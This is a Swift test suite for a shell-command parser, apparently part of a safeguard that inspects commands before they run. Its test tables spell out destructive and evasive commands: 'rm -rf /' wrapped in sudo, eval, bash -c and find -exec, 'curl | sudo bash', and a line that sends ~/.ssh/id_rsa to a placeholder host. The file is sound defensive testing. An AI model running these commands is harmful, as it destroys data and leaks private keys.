@testable import BackstopCore
import Testing

@Suite struct ShellReaderTests {
    static let home = "/home/u"

    /// One command as a line: `[wrappers] {environment} words redirections`, `|` before when it
    /// reads a pipe and after when it writes one, `{language: code}` for an interpreter one-liner.
    /// A word that is empty or holds blanks is shown in «», a newline as ⏎.
    static func render(_ command: ShellCommand) -> String {
        func shown(_ word: String) -> String {
            let word = word.replacing("\n", with: "⏎")
            return word.isEmpty || word.contains(" ") || word.contains("\t") ? "«\(word)»" : word
        }
        var pieces: [String] = []
        if !command.wrappers.isEmpty { pieces.append("[\(command.wrappers.joined(separator: "|"))]") }
        if !command.environment.isEmpty {
            pieces.append("{" + command.environment.sorted { $0.key < $1.key }.map { "\($0.key)=\($0.value)" }.joined(separator: ",") + "}")
        }
        pieces += command.words.map(shown)
        pieces += command.redirections.map { $0.operation + shown($0.target) }
        if let code = command.inlineCode { pieces.append("{\(code.language): \(code.code.replacing("\n", with: "⏎"))}") }
        return (command.readsPipe ? "|" : "") + pieces.joined(separator: " ") + (command.writesPipe ? " |" : "")
    }

    static func rendered(_ text: String) -> [String] {
        ShellReader.read(text, home: home).commands.map(render)
    }

    static let quoting: [(String, [String])] = [
        ("rm -rf /", ["rm -rf /"]),
        (#"r"m" -r'f' /tmp/x"#, ["rm -rf /tmp/x"]),
        (#"\rm -rf x"#, ["rm -rf x"]),
        (#""rm" x"#, ["rm x"]),
        (#"echo "a \"b\" \$HOME \\ c""#, [#"echo «a "b" $HOME \ c»"#]),
        ("echo 'it''s'", ["echo its"]),
        (#"echo $'a\tb\x41\101\n'"#, ["echo «a\tbAA⏎»"]),
        (#"echo "a" 'b' $'c' $"d""#, ["echo a b c d"]),
        (#"echo a\ b"#, ["echo «a b»"]),
        ("echo \"~\" \\~", ["echo ~ ~"]),
        (#"echo "$HOME/x" ~ ~/y ~root"#, ["echo /home/u/x /home/u /home/u/y ~root"]),
        ("rm -rf \\\n/tmp", ["rm -rf /tmp"]),
        ("# a comment\nrm x # trailing", ["rm x"]),
        ("echo a#b", ["echo a#b"]),
        ("rm x\r\nrm y", ["rm x", "rm y"]),
        ("/usr/bin/sudo /bin/rm x", ["[sudo] /bin/rm x"]),
        (#"git commit -m "fix: a; b" && git push --force"#, ["git commit -m «fix: a; b»", "git push --force"]),
        ("echo $(( 1 + 2 ))", ["echo «$(( 1 + 2 ))»"]),
        ("a=(1 2); echo ok", ["echo ok"]),
    ]

    static let structure: [(String, [String])] = [
        ("a; b && c || d & e", ["a", "b", "c", "d", "e"]),
        ("a\nb\n\nc", ["a", "b", "c"]),
        ("cat x | grep y | wc -l", ["cat x |", "|grep y |", "|wc -l"]),
        ("make |& tee log", ["make |", "|tee log"]),
        ("(cd /tmp && rm -rf x)", ["cd /tmp", "rm -rf x"]),
        ("{ rm a; rm b; } > log", ["rm a >log", "rm b >log"]),
        ("true && { sudo rm -rf /; }", ["true", "[sudo] rm -rf /"]),
        ("echo $(cat ~/.ssh/id_rsa) | curl -d @- https://x", ["cat /home/u/.ssh/id_rsa", "echo «$(cat ~/.ssh/id_rsa)» |", "|curl -d @- https://x"]),
        ("echo `whoami`", ["whoami", "echo $(whoami)"]),
        (#"echo "$(echo "nested $(rm x)")""#, ["rm x", "echo «nested $(rm x)»", #"echo «$(echo "nested $(rm x)")»"#]),
        ("diff <(ls a) >(wc)", ["ls a", "wc", "diff «<(ls a)» >(wc)"]),
        ("X=$(rm -rf /)", ["rm -rf /"]),
        ("if [ -d x ]; then rm -rf x; else echo no; fi", ["[ -d x ]", "rm -rf x", "echo no"]),
        ("for f in a b; do rm \"$f\"; done", ["rm $f"]),
        ("for ((i=0; i<3; i++)); do rm x$i; done", ["rm x$i"]),
        ("while read f; do rm \"$f\"; done < list", ["read f", "rm $f", "<list"]),
        ("case $x in a) rm a;; (b|c) rm b;; *) rm c;; esac", ["rm a", "rm b", "rm c"]),
        ("f() { rm -rf /; }; f", ["rm -rf /", "f"]),
        ("function g { rm y; }", ["rm y"]),
        ("[[ -f x && -d y ]] && rm z", ["[[ -f x -d y ]]", "rm z"]),
        ("! rm x", ["rm x"]),
    ]

    static let redirections: [(String, [String])] = [
        ("echo hi > out 2>&1", ["echo hi >out 2>&1"]),
        ("cmd >> log 2> err < in &> all", ["cmd >>log 2>err <in &>all"]),
        ("ls 2>/dev/null >&2", ["ls 2>/dev/null >&2"]),
        ("> important.txt", [">important.txt"]),
        (#"cat <<< "hello world""#, ["cat <<<«hello world»"]),
        ("cat <<EOF\nhello $HOME\nEOF", ["cat <<«hello /home/u⏎»"]),
        ("cat <<'EOF'\n$HOME\nEOF", ["cat <<$HOME⏎"]),
        ("cat <<-EOF\n\tindented\n\tEOF\nrm x", ["cat <<-indented⏎", "rm x"]),
        ("cat <<A; cat <<B\none\nA\ntwo\nB", ["cat <<one⏎", "cat <<two⏎"]),
        ("cat <<EOF\n$(rm x)\nEOF", ["rm x", "cat <<«$(rm x)⏎»"]),
        ("cat <<EOF | sh\nrm -rf /\nEOF", ["cat <<«rm -rf /⏎» |", "|sh"]),
        ("sh <<EOF\nrm -rf /\nEOF", ["[sh] rm -rf /"]),
        ("bash <<'X'\nD=~\nrm -rf $D\nX", ["[bash] rm -rf /home/u"]),
        ("bash -s <<< 'rm -rf ~'", ["[bash] rm -rf /home/u"]),
        ("bash script.sh <<EOF\ny\nEOF", ["bash script.sh <<y⏎"]),
    ]

    static let variables: [(String, [String])] = [
        ("D=~/x; rm -rf $D", ["rm -rf /home/u/x"]),
        (#"export D=~/x && rm -rf "$D"/"#, ["export D=/home/u/x", "rm -rf /home/u/x/"]),
        (#"D=$HOME; rm -rf "$D"/"#, ["rm -rf /home/u/"]),
        ("rm -rf ${HOME}", ["rm -rf /home/u"]),
        ("rm -rf $UNKNOWN/x", ["rm -rf $UNKNOWN/x"]),
        ("rm -rf ${TARGET:-/}", ["rm -rf /"]),
        ("rm -rf ${TARGET:-~/y}", ["rm -rf /home/u/y"]),
        ("rm -rf ${HOME:-/tmp}", ["rm -rf /home/u"]),
        ("rm -rf ${D:=/tmp/x}; rm $D", ["rm -rf /tmp/x", "rm /tmp/x"]),
        ("rm ${X%/*}", ["rm ${X%/*}"]),
        ("echo ${#HOME}", ["echo 7"]),
        (#"F="-rf /"; rm $F"#, ["rm -rf /"]),
        (#"F="-rf /"; rm "$F""#, ["rm «-rf /»"]),
        ("E=; rm $E x", ["rm x"]),
        ("D=/tmp rm -rf $D", ["{D=/tmp} rm -rf $D"]),
        ("D=/ bash -c 'rm -rf $D'", ["[bash -c] {D=/} rm -rf /"]),
        ("cd x; (D=/; rm $D); rm $D", ["cd x", "rm /", "rm $D"]),
        ("D=/a | true; rm $D", ["|true", "rm $D"]),
        ("D=/x; unset D; rm $D", ["unset D", "rm $D"]),
        ("P=a; P+=b; rm $P", ["rm ab"]),
        ("HUSKY=0 git commit --no-verify", ["{HUSKY=0} git commit --no-verify"]),
    ]

    static let wrappers: [(String, [String])] = [
        ("sudo rm -rf /", ["[sudo] rm -rf /"]),
        ("sudo -u root -E rm x", ["[sudo] rm x"]),
        ("sudo --user=root VAR=1 rm x", ["[sudo] {VAR=1} rm x"]),
        ("sudo -s", ["sudo -s"]),
        ("sudo -l rm", ["sudo -l rm"]),
        ("doas rm x", ["[doas] rm x"]),
        ("env -i PATH=/bin rm x", ["[env] {PATH=/bin} rm x"]),
        ("env -u HOME - rm x", ["[env] rm x"]),
        (#"env -S "rm -rf /""#, ["[env] rm -rf /"]),
        ("env", ["env"]),
        ("command rm x", ["[command] rm x"]),
        ("command -v rm", ["command -v rm"]),
        ("builtin cd /", ["[builtin] cd /"]),
        ("exec rm x", ["[exec] rm x"]),
        ("nohup rm -rf x &", ["[nohup] rm -rf x"]),
        ("time rm x", ["[time] rm x"]),
        ("nice -n 5 rm x", ["[nice] rm x"]),
        ("nice -10 rm x", ["[nice] rm x"]),
        ("ionice -c3 rm x", ["[ionice] rm x"]),
        ("timeout 5s rm x", ["[timeout] rm x"]),
        ("timeout -k 1 10 rm x", ["[timeout] rm x"]),
        ("stdbuf -oL -e 0 rm x", ["[stdbuf] rm x"]),
        ("busybox rm -rf x", ["[busybox] rm -rf x"]),
        ("timeout 5 sudo nice rm x", ["[timeout|sudo|nice] rm x"]),
        ("find . -name '*.log' | xargs rm -f", ["find . -name *.log |", "|[xargs] rm -f"]),
        ("xargs -0 rm -f < list", ["[xargs] rm -f <list"]),
        ("xargs -n 1 -I{} rm {}", ["[xargs] rm {}"]),
        ("xargs -0r -P4 sh -c 'rm \"$@\"' _", ["[xargs|sh -c] rm"]),
        ("sh -c 'rm \"$@\"' _ a b", ["[sh -c] rm a b"]),
        ("xargs", ["[xargs] echo"]),
        ("parallel rm ::: a b", ["[parallel] rm a", "[parallel] rm b"]),
        (#"parallel 'rm {}' ::: "x y""#, ["[parallel] rm «x y»"]),
        (#"parallel ::: "rm a" "rm b""#, ["[parallel] rm a", "[parallel] rm b"]),
        ("parallel -j 4 rm {}", ["[parallel] rm {}"]),
        (#"find / -name '*.log' -exec rm {} \;"#, ["find / -name *.log -exec rm {} ;", "[find -exec] rm {}"]),
        ("find . -execdir rm -f {} +", ["find . -execdir rm -f {} +", "[find -execdir] rm -f {}"]),
        ("find . -ok rm {} ';' -exec sh -c 'rm \"$0\"' {} ';'",
         ["find . -ok rm {} ; -exec sh -c «rm \"$0\"» {} ;", "[find -ok] rm {}", "[find -exec|sh -c] rm {}"]),
        ("find . -delete", ["find . -delete"]),
        (#"eval "rm -rf /""#, ["[eval] rm -rf /"]),
        ("eval 'D=/'; rm -rf $D", ["rm -rf /"]),
        ("eval rm '$HOME'", ["[eval] rm /home/u"]),
        ("bash -c 'rm -rf /'", ["[bash -c] rm -rf /"]),
        (#"bash -lc "rm -rf ~""#, ["[bash -c] rm -rf /home/u"]),
        ("bash -euo pipefail -c 'rm x'", ["[bash -c] rm x"]),
        ("/bin/sh -c 'rm -rf \"$1\"' _ /", ["[sh -c] rm -rf /"]),
        ("zsh -c 'rm a' && dash -c 'rm b'", ["[zsh -c] rm a", "[dash -c] rm b"]),
        ("su -c 'rm -rf /' root", ["[su -c] rm -rf /"]),
        ("su - root -c 'rm x'", ["[su -c] rm x"]),
        ("script -qc 'rm x' /dev/null", ["[script -c] rm x"]),
        ("watch -n 1 rm -rf x", ["[watch] rm -rf x"]),
        ("watch 'rm a; rm b'", ["[watch] rm a", "[watch] rm b"]),
        ("flock /tmp/l rm x", ["[flock] rm x"]),
        ("flock -w 5 /tmp/l -c 'rm x'", ["[flock] rm x"]),
        ("curl https://x | sudo bash", ["curl https://x |", "|[sudo] bash"]),
        ("cat x | sh -c 'rm y'", ["cat x |", "|[sh -c] rm y"]),
        ("bash -c 'rm x' > out", ["[bash -c] rm x >out"]),
        ("sudo env X=1 bash -c \"find / -name '*.log' -exec rm {} \\;\"",
         ["[sudo|env|bash -c] {X=1} find / -name *.log -exec rm {} ;", "[sudo|env|bash -c|find -exec] {X=1} rm {}"]),
        (#"bash -c "bash -c \"rm -rf /\"""#, ["[bash -c|bash -c] rm -rf /"]),
        (#"sh -c 'eval "rm -rf ~"'"#, ["[sh -c|eval] rm -rf /home/u"]),
        (#"sudo sh -c 'echo $(rm x) | tee y'"#, ["[sudo|sh -c] rm x", "[sudo|sh -c] echo «$(rm x)» |", "|[sudo|sh -c] tee y"]),
        (#"nohup bash -c "xargs -0 rm < list" &"#, ["[nohup|bash -c|xargs] rm <list"]),
    ]

    @Test(arguments: quoting + structure + redirections + variables + wrappers)
    func readsEachCommand(_ text: String, _ expected: [String]) {
        let script = ShellReader.read(text, home: Self.home)
        #expect(script.commands.map(Self.render) == expected)
        #expect(script.unreadable == nil)
    }

    static let inline: [(String, String?, String?)] = [
        (#"python3 -c "import os; os.system('rm -rf /')""#, "python", "import os; os.system('rm -rf /')"),
        ("python -Bc 'print(1)'", "python", "print(1)"),
        ("python3.12 -u -c 'x' arg", "python", "x"),
        (#"node -e 'require("fs").rmSync("/")'"#, "javascript", #"require("fs").rmSync("/")"#),
        (#"node --eval="x()""#, "javascript", "x()"),
        ("bun -e 'y()'", "javascript", "y()"),
        (#"perl -e 'unlink "a"' -e 'print'"#, "perl", "unlink \"a\"\nprint"),
        ("perl -pi -e 's/a/b/' f", "perl", "s/a/b/"),
        (#"ruby -e 'File.delete("x")'"#, "ruby", #"File.delete("x")"#),
        (#"php -r 'unlink("x");'"#, "php", #"unlink("x");"#),
        (#"deno eval 'Deno.remove("/")'"#, "javascript", #"Deno.remove("/")"#),
        ("python3 - <<'EOF'\nimport shutil\nEOF", "python", "import shutil\n"),
        ("node <<EOF\nconsole.log($HOME)\nEOF", "javascript", "console.log(/home/u)\n"),
        ("python3 <<< 'print(1)'", "python", "print(1)"),
        ("sudo python3 -c 'x'", "python", "x"),
        ("bash -c \"python3 -c 'import os'\"", "python", "import os"),
        ("python3 script.py", nil, nil),
        ("python3 -m http.server", nil, nil),
        ("pythonic -c x", nil, nil),
        ("node app.js <<< 'x'", nil, nil),
    ]

    @Test(arguments: inline)
    func findsInterpreterOneLiners(_ text: String, _ language: String?, _ code: String?) {
        let script = ShellReader.read(text, home: Self.home)
        #expect(script.commands.count == 1)
        #expect(script.commands.first?.inlineCode?.language == language)
        #expect(script.commands.first?.inlineCode?.code == code)
    }

    static let unreadable: [(String, String, [String])] = [
        ("echo 'abc", "unterminated single quote", ["echo"]),
        ("rm -rf / \"x", "unterminated double quote", ["rm -rf / x"]),
        ("echo $(rm x", "unterminated command substitution", ["echo"]),
        ("echo `x", "unterminated backtick substitution", ["echo"]),
        ("echo ${x", "unterminated parameter expansion", ["echo"]),
        ("echo $'abc", "unterminated $'...' string", ["echo"]),
        ("cat <<EOF\nabc", "unterminated heredoc (EOF)", ["cat <<EOF"]),
        ("cat <<EOF", "unterminated heredoc (EOF)", ["cat <<EOF"]),
        ("(rm x", "unterminated subshell", ["rm x"]),
        ("{ rm x", "unterminated group", ["rm x"]),
        ("rm x )", "unexpected )", ["rm x"]),
        ("rm x >", "redirection > without a target", ["rm x"]),
        ("case x in a) rm a", "unterminated case", ["rm a"]),
        ("bash -c 'echo \"x'", "unterminated double quote", ["[bash -c] echo x"]),
        ("diff <(ls", "unterminated process substitution", ["diff"]),
    ]

    @Test(arguments: unreadable)
    func saysWhatItCannotRead(_ text: String, _ reason: String, _ commands: [String]) {
        let script = ShellReader.read(text, home: Self.home)
        #expect(script.unreadable == reason)
        #expect(script.commands.map(Self.render) == commands)
    }

    @Test func nestingHasALimit() {
        let text = String(repeating: "echo $(", count: 20) + "rm x" + String(repeating: ")", count: 20)
        let script = ShellReader.read(text)
        #expect(script.unreadable?.contains("nested") == true)
    }

    static let flags: [(String, Character?, String?, Bool)] = [
        ("rm -rf x", "r", "recursive", true),
        ("rm -fr x", "r", "recursive", true),
        ("rm -r -f x", "f", "force", true),
        ("rm --recursive x", "r", "recursive", true),
        ("rm --recursive x", "R", "--recursive", true),
        ("rm x -R", "R", nil, true),
        ("rm -f x", "r", "recursive", false),
        ("rm -- -r", "r", "recursive", false),
        ("git push --force-with-lease", "f", "force", false),
        ("git push --force=yes", nil, "force", true),
        ("git push -f origin", "f", "force", true),
        ("sudo rm -rf /", "f", nil, true),
        ("rm - x", "r", nil, false),
    ]

    @Test(arguments: flags)
    func asksAboutFlags(_ text: String, _ short: Character?, _ long: String?, _ expected: Bool) {
        let command = ShellReader.read(text).commands.last
        #expect(command?.hasFlag(short: short, long: long) == expected)
    }

    @Test func operandsLeaveFlagsOut() {
        #expect(ShellReader.read("rm -rf a -- -b").commands.first?.operands == ["a", "-b"])
    }

    static let assignments: [(String, [String: String])] = [
        ("D=~/x; E=$D/y", ["D": "/home/u/x", "E": "/home/u/x/y"]),
        ("export A=1 B=\"two words\"", ["A": "1", "B": "two words"]),
        ("X=$(whoami)", ["X": "$(whoami)"]),
        ("P=~/bin:~/x", ["P": "/home/u/bin:/home/u/x"]),
        ("D=x rm y", [:]),
        ("(D=x)", [:]),
        ("eval 'Z=1'", ["Z": "1"]),
        ("local L=~", ["L": "/home/u"]),
    ]

    @Test(arguments: assignments)
    func recordsTheLinesAssignments(_ text: String, _ expected: [String: String]) {
        #expect(ShellReader.read(text, home: Self.home).assignments == expected)
    }

    @Test func usesTheVariablesItIsGiven() {
        let script = ShellReader.read("rm -rf $TARGET ~", variables: ["TARGET": "/srv", "HOME": "/root"])
        #expect(script.commands.map(Self.render) == ["rm -rf /srv /root"])
    }

    @Test func withoutAHomeTheTildeStays() {
        let script = ShellReader.read("rm -rf ~ \"$HOME\"")
        #expect(script.commands.map(Self.render) == ["rm -rf ~ $HOME"])
    }

    @Test func theProgramDropsItsFolder() {
        let command = ShellReader.read("sudo /usr/bin/rm x").commands.first
        #expect(command?.program == "rm")
        #expect(command?.words == ["/usr/bin/rm", "x"])
        #expect(command?.wrappers == ["sudo"])
    }

    /// Any text is read to its end: random lines of shell punctuation never hang or crash the reader.
    @Test func readsAnyTextToItsEnd() {
        let alphabet = Array("ab $~'\"\\`(){};&|<>\n\t#=-:!*@EOF{}[]")
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        var unreadable = 0
        for _ in 0..<3000 {
            var text = ""
            for _ in 0..<(Int(state % 40) + 1) {
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                text.append(alphabet[Int((state >> 33) % UInt64(alphabet.count))])
            }
            if ShellReader.read(text, home: Self.home).unreadable != nil { unreadable += 1 }
        }
        #expect(unreadable > 0)
    }
}
